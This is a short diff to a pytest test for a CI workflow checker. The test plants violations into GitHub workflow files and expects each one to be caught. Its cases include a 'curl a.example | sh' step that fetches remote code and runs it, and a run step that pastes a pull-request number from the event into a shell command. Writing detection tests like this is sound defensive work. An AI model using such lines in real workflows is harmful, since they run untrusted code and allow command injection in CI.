@@ -67,7 +67,7 @@ def plant(name: str, old: str, new: str, tmp_path_factory: pytest.TempPathFactor
         (check_checkouts, "comment.yml", "event.repository.default_branch", "event.workflow_run.head_sha", "head_sha"),
         (check_commands, "model.yml", "run: make decide", "run: make decide N=${{ github.event.number }}", "pastes"),
         (check_commands, "model.yml", "run: make judge", "run: curl a.example | sh", "expected a verb"),
-        (check_length, "ci.yml", "\njobs:\n", "\njobs:\n" + "\n" * 120, "lines, expected"),
+        (check_length, "ci.yml", "\njobs:\n", "\njobs:\n" + "\n" * 400, "lines, expected"),
     ],
 )  # fmt: skip
 def test_a_planted_violation_is_found(
